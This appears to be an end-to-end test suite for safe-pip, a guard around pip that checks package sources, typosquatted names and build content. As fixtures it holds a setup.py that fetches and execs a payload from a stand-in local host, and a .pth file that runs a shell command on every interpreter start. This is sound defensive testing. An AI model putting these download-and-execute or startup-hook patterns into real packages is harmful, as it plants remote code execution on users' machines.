/**
 * safe-pip as pip's twin (issue 10), end to end: bin/safe-pip.js as root, the real pip 23.0.1 of
 * venvs owned by nobody, local indexes on 127.0.0.1. Each test names the item of the issue it proves.
 * The parity table (safe-pip.parity.test.ts) compares whole sets over many forms; here are the
 * behaviours that need their own setting (format choices, find-links, two sources, an unreachable
 * index, dry runs, --report -, -q, git+file, the typo pip cannot resolve, python -m pip, the
 * content of a build).
 */
import { execFileSync } from 'node:child_process';
import { execa } from 'execa';
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildSdist, buildWheel, PYTHON, unpackSdist } from '../helpers/python-dists.js';
import { makeTempDir } from '../helpers/projects.js';
import { makeSandbox, repoRoot, SYSTEM_PATH, type Sandbox } from '../helpers/run-bin.js';
import { daysAgo, startSimpleIndex, type IndexProject, type SimpleIndex } from '../helpers/simple-index.js';
import { newVenv } from '../helpers/venvs.js';
import { establishedProject, runSafePip, sandboxStore } from '../helpers/pip-runs.js';
import { setupBlock } from '../../src/cli/setup.js';

const NOBODY = 65534;
const canRun = existsSync(PYTHON) && process.getuid?.() === 0 && existsSync(join(repoRoot, 'dist', 'cli', 'safe-pip.js'));
/** coverage's own subprocess hook, byte for byte (coverage 7.16): a known-good .pth by project and hash. */
const COVERAGE_PTH = 'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug="pth")\')\n';
const EVIL_SETUP = 'from setuptools import setup\nimport urllib.request\nexec(urllib.request.urlopen("http://127.0.0.1:9/payload").read())\nsetup(name="scanned")\n';

let work: string;
let dists: string;
let index: SimpleIndex;
let copy: SimpleIndex;
let sandbox: Sandbox;
let findLinks: string;
let gitRepo: string;
const marker = (name: string) => join(work, 'markers', name);

const safePip = (venv: string | undefined, args: string[], env: Record<string, string | undefined> = {}) => runSafePip(sandbox, work, venv, args, { env });
const freeze = (venv: string) => execFileSync(join(venv, 'bin', 'python'), ['-m', 'pip', 'freeze', '--all'], { env: { PATH: SYSTEM_PATH, PIP_CONFIG_FILE: '/dev/null' } }).toString();

describe.skipIf(!canRun)('safe-pip as pip\'s twin (issue 10)', () => {
  beforeAll(async () => {
    work = await makeTempDir('safe-pip-twin-');
    dists = join(work, 'dists');
    findLinks = join(work, 'find-links');
    for (const d of [dists, findLinks, join(work, 'cache')]) mkdirSync(d);
    mkdirSync(join(work, 'markers'), { mode: 0o777 });
    chmodSync(join(work, 'markers'), 0o777);
    sandbox = await makeSandbox();
    const old = (name: string, extra: Partial<Parameters<typeof buildWheel>[1]> = {}) => establishedProject(dists, name, extra);
    // quiet-widget 1.2 also has an sdist: with --no-binary pip picks it, and so the build is vetted.
    const widget = old('quiet-widget');
    widget.files.push({ dist: buildSdist(dists, { name: 'quiet-widget', version: '1.2', marker: marker('widget') }), uploaded: daysAgo(300) });
    const scanned: IndexProject = {
      name: 'scanned', projectUrls: { Source: 'https://example.invalid/scanned' },
      files: ['1.0', '1.1'].map((version, i) => ({ dist: buildSdist(dists, { name: 'scanned', version, marker: marker('scanned'), files: { 'setup.py': EVIL_SETUP } }), uploaded: daysAgo(400 - 50 * i) })),
    };
    const projects = [
      widget, old('requests'), scanned,
      old('coverage', { files: { 'coverage/__init__.py': '', 'a1_coverage.pth': COVERAGE_PTH } }),
      old('pth-pkg', { files: { 'pth_pkg/__init__.py': '', 'zz_evil.pth': 'import os; os.system("id")\n' } }),
    ];
    index = await startSimpleIndex(projects);
    // Another server with the very same files (a mirror): same bytes from two sources.
    copy = await startSimpleIndex(projects.map((p) => ({ ...p, files: [...p.files] })));
    buildWheel(findLinks, { name: 'mylib', version: '0.3' });
    // A git repository holding an sdist's tree (its backend writes the marker).
    const src = await makeTempDir('safe-pip-git-');
    gitRepo = unpackSdist(buildSdist(src, { name: 'gitpkg', version: '0.1', marker: marker('gitpkg') }), src);
    const git = (...args: string[]) => execFileSync('git', ['-c', 'user.email=t@x', '-c', 'user.name=t', ...args], { cwd: gitRepo });
    git('init', '-q');
    git('add', '.');
    git('commit', '-qm', 'gitpkg 0.1');
    execFileSync('chown', ['-R', `${NOBODY}:${NOBODY}`, src]);
    execFileSync('chmod', ['-R', 'a+rX', work]);
  }, 240_000);

  afterAll(async () => {
    await index?.close();
    await copy?.close();
    await sandbox?.cleanup();
  });

  it('1: the user\'s format choices reach pip: --no-binary :all: on a wheel-only release fails as in pip; an sdist pip then needs is a build to vet', async () => {
    const venv = await newVenv();
    const noSdist = await safePip(venv, ['install', '-i', index.url, '--no-binary', ':all:', 'requests']);
    expect(noSdist.exitCode).toBe(1);
    expect(noSdist.stderr).toContain('No matching distribution found for requests');
    expect(noSdist.stderr).not.toContain('could not resolve');
    const sdist = await safePip(venv, ['install', '-i', index.url, '--no-bin', 'quiet-widget', 'quiet-widget']);
    expect(sdist.exitCode, sdist.stderr).toBe(67);
    expect(sdist.stderr).toContain('quiet-widget==1.2 needs a build');
    expect(existsSync(marker('widget'))).toBe(false);
    expect(freeze(venv)).not.toContain('quiet-widget');
  });

  it('2: a wheel in --find-links while an index is configured is installable (it exists; "not found" is an index fact)', async () => {
    const venv = await newVenv();
    const r = await safePip(venv, ['install', '--dry-run', '-i', index.url, '-f', findLinks, 'mylib']);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stderr).not.toContain('not found');
    expect(r.stdout).toBe('Would install mylib-0.3\n');
  });

  it('3: the same files from two sources are no confusion; an unreachable primary index is said as such, once', async () => {
    const venv = await newVenv();
    const two = await safePip(venv, ['install', '--dry-run', '-i', index.url, '--extra-index-url', copy.url, 'requests', 'quiet-widget']);
    expect(two.exitCode, two.stderr).toBe(0);
    expect(two.stderr).toContain('2 package sources are configured');
    expect(two.stdout).toBe('Would install quiet-widget-1.2 requests-1.2\n');
    const dead = await safePip(venv, ['install', '--dry-run', '--retries', '0', '-i', 'http://127.0.0.1:9/simple', '--extra-index-url', index.url, 'requests']);
    expect(dead.exitCode, dead.stderr).toBe(0);
    expect(dead.stderr.match(/the index http:\/\/127\.0\.0\.1:9\/simple could not be reached \(Connection refused\); pip went on without it, and http:\/\/127\.0\.0\.1:\d+\/simple stands for the primary index/g)).toHaveLength(1);
    expect(dead.stderr).not.toContain('higher version');
  });

  it('4: a dry run predicts the install (a .pth that runs code blocks it); coverage\'s own .pth is known good', async () => {
    const venv = await newVenv();
    const evil = await safePip(venv, ['install', '--dry-run', '-i', index.url, 'pth-pkg']);
    expect(evil.exitCode).toBe(65);
    expect(evil.stderr).toContain('zz_evil.pth');
    expect(evil.stdout).not.toContain('Would install');
    const cov = await safePip(venv, ['install', '--dry-run', '-i', index.url, 'coverage']);
    expect(cov.exitCode, cov.stderr).toBe(0);
    expect(cov.stdout).toBe('Would install coverage-1.2\n');
  });

  it('5: --report - prints pip\'s JSON; -q leaves safe-pip silent on success', async () => {
    const venv = await newVenv();
    const report = await safePip(venv, ['install', '--dry-run', '--quiet', '--report', '-', '-i', index.url, 'requests']);
    expect(report.exitCode, report.stderr).toBe(0);
    expect(JSON.parse(report.stdout).install.map((i: { metadata: { name: string } }) => i.metadata.name)).toEqual(['requests']);
    // Two sources: without -q safe-pip would say how many it checks; under -q nothing at all.
    const quiet = await safePip(venv, ['install', '-q', '--dry-run', '-i', index.url, '--extra-index-url', copy.url, 'requests']);
    expect(quiet.exitCode, quiet.stderr).toBe(0);
    expect([quiet.stdout, quiet.stderr]).toEqual(['', '']);
  });

  it('6: git+file:/// is printed and approved with its "//"; -e git+… in a requirements file is refused before pip clones', async () => {
    const venv = await newVenv();
    // pip 23's requirement parser takes git+file:/// only in the #egg= form (a PEP 508 URL needs a host).
    const url = `git+${pathToFileURL(gitRepo).href}`;
    const withheld = await safePip(venv, ['install', '--no-index', `${url}#egg=gitpkg`]);
    expect(withheld.exitCode, withheld.stderr).toBe(67);
    expect(withheld.stderr).toContain(`safe-pip safe approve ${url} (then run again)`);
    expect(url).toMatch(/^git\+file:\/\/\//);
    const approve = await safePip(undefined, ['safe', 'approve', url]);
    expect(approve.exitCode, approve.stderr).toBe(0);
    const ok = await safePip(venv, ['install', '--no-index', `${url}#egg=gitpkg`]);
    expect(ok.exitCode, ok.stderr).toBe(0);
    expect(statSync(marker('gitpkg')).uid).toBe(NOBODY);
    expect(freeze(venv)).toContain('gitpkg');

    const req = join(work, 'editable-git.txt');
    writeFileSync(req, `-e ${url}#egg=gitpkg\n`);
    chmodSync(req, 0o644);
    const fresh = await newVenv();
    const refused = await safePip(fresh, ['install', '-r', req]);
    expect(refused.exitCode).toBe(64);
    expect(refused.stderr).toContain('editable installs are supported from a local folder only');
    expect(existsSync(join(fresh, 'src'))).toBe(false);
    expect(existsSync(join(work, 'src'))).toBe(false);
  });

  it('the typo check fires when pip cannot resolve: blocked (65) with its did-you-mean, before pip\'s error; 7: the more popular, closer target wins', async () => {
    const venv = await newVenv();
    const r = await safePip(venv, ['install', '-i', index.url, 'reqeusts', 'python-dateutils']);
    expect(r.exitCode).toBe(65);
    const said = r.stderr.indexOf(`did you mean "requests"? run: safe-pip install -i ${index.url} requests python-dateutils`);
    expect(said).toBeGreaterThan(-1);
    expect(said).toBeLessThan(r.stderr.indexOf('No matching distribution found'));
    expect(r.stderr).toContain('did you mean "python-dateutil"?');
  });

  it('a build\'s content is read first: a high-confidence finding blocks a pre-approved build (file and line), until exactly that content is approved', async () => {
    rmSync(marker('scanned'), { force: true });
    const venv = await newVenv();
    (await sandboxStore(sandbox)).recordScriptDecision('pypi', { decision: 'allow', key: 'scanned', at: new Date().toISOString() });
    const blocked = await safePip(venv, ['install', '-i', index.url, 'scanned']);
    expect(blocked.exitCode, blocked.stderr).toBe(65);
    expect(blocked.stderr).toMatch(/blocked: the build of scanned==1\.1 \(pre-approved\) would run code the content scan flags/);
    expect(blocked.stderr).toMatch(/ {2}! setup\.py:3: .*\[download-execute\]/);
    expect(existsSync(marker('scanned'))).toBe(false);
    const digest = blocked.stderr.match(/--content ([0-9a-f]{64})/)![1]!;
    expect((await safePip(undefined, ['safe', 'approve', 'scanned==1.1', '--content', digest])).exitCode).toBe(0);
    const built = await safePip(venv, ['install', '-i', index.url, 'scanned']);
    expect(built.exitCode, built.stderr).toBe(0);
    expect(statSync(marker('scanned')).uid).toBe(NOBODY);
  });

  it('python -m pip goes through safe-pip: by the functions of `safe setup` and by the PATH shims; other uses of python do not', async () => {
    const venv = await newVenv();
    const env = { ...sandbox.env, PATH: `${join(venv, 'bin')}:${SYSTEM_PATH}`, SAFE_PIP_CACHE_ROOT: join(work, 'cache') };
    const block = setupBlock('pypi', 'bash', join(repoRoot, 'shims'));
    // Asynchronously: the index answers from this very process.
    const bash = async (line: string) => {
      const r = await execa('bash', ['-c', `${block}\n${line}`], { env, extendEnv: false, cwd: work, reject: false, stdin: 'ignore' });
      return { code: r.exitCode, out: r.exitCode === 0 ? r.stdout : r.stderr };
    };
    const squat = await bash(`python3 -m pip install -i ${index.url} reqeusts`);
    expect(squat.code).toBe(65);
    expect(squat.out).toContain('did you mean "requests"');
    expect(await bash('python3 -c "print(6 * 7)"')).toEqual({ code: 0, out: '42' });
    const onPath = { ...env, PATH: `${join(repoRoot, 'shims')}:${env.PATH}` };
    const version = await execa('python3', ['--version'], { env: onPath, extendEnv: false });
    expect(version.stdout).toBe(execFileSync(join(venv, 'bin', 'python3'), ['--version']).toString().trim());
    const installed = await execa('python3', ['-m', 'pip', 'install', '-q', '-i', index.url, 'requests'], { env: onPath, extendEnv: false, cwd: work, reject: false, stdin: 'ignore' });
    expect(installed.exitCode, installed.stderr).toBe(0);
    expect(freeze(venv)).toContain('requests==1.2');
    const site = execFileSync(join(venv, 'bin', 'python3'), ['-c', 'import requests, os; print(os.path.dirname(requests.__file__))']).toString().trim();
    expect(statSync(site).uid).toBe(NOBODY);
    expect(readFileSync(join(repoRoot, 'shims', 'python3'), 'utf8')).toBe(readFileSync(join(repoRoot, 'shims', 'python'), 'utf8'));
  });
});
